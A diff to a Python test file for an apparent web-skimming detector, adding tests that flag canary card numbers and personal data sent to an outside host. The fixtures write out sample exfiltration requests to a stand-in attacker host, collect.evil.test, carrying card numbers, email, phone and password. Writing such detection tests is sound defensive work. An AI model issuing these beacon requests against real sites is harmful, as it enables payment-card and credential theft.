@@ -110,7 +110,7 @@ def test_several_requests_to_one_host_and_channel_are_one_finding() -> None:
     urls = [f"http://collect.evil.test/i.gif?n={CANARY.card_number[:i]}&full={CANARY.card_number}" for i in (4, 8)]
     findings = run(*(out(Channel.URL, u, u) for u in urls))
     assert brief(findings) == [("SG501", "critical", "payment", "collect.evil.test|url")]
-    assert findings[0].evidence["requests"] == 2
+    assert findings[0].evidence["_requests"] == 2
 
 
 def test_short_values_alone_are_not_evidence() -> None:
@@ -124,3 +124,30 @@ def test_other_cards_and_no_canary_find_nothing() -> None:
     assert run(out(Channel.URL, url, url)) == []
     hit = f"http://collect.evil.test/i.gif?d={CANARY.card_number}"
     assert run(out(Channel.URL, hit, hit), canary=None) == []
+
+
+def test_a_cvc_inside_the_phone_number_does_not_make_personal_data_card_data() -> None:
+    # ok: SG503 — the registration form posts the canary identity; its phone happens to contain the
+    # CVC's digits. That is personal data posted to the shop's own form, not card data.
+    canary = dataclasses.replace(CANARY, cvc=CANARY.phone[4:7])
+    body = f"email={CANARY.email}&phone={CANARY.phone}&password={CANARY.password}"
+    post = out(Channel.BODY, "http://shop.test/member/register", body, kind="document", method="POST", page="register")
+    assert run(post, canary=canary) == []
+    # ruleid: SG502 — sent to an outside host it is personal data, with no card value in the evidence
+    beacon = out(Channel.BODY, "http://collect.evil.test/r", body, kind="ping", method="POST", page="register")
+    findings = run(beacon, canary=canary)
+    assert brief(findings) == [("SG502", "critical", "register", "collect.evil.test|body")]
+    assert findings[0].evidence["values"] == ["email", "password", "phone"]
+
+
+def test_per_sighting_evidence_does_not_change_the_finding() -> None:
+    # The same theft seen in two scans (new canary, another request count) is the same finding,
+    # not a changed one: no second alert.
+    first, second = (new_canary(datetime(2026, 11, 21, tzinfo=UTC)) for _ in range(2))
+    findings = []
+    for canary, n in ((first, 1), (second, 3)):
+        url = f"http://collect.evil.test/i.gif?d={canary.card_number}"
+        findings += run(*(out(Channel.URL, url, url) for _ in range(n)), canary=canary)
+    assert len(findings) == 2 and findings[0].fingerprint == findings[1].fingerprint
+    assert findings[0].content_hash == findings[1].content_hash
+    assert findings[0].evidence["_canary_tag"] != findings[1].evidence["_canary_tag"]
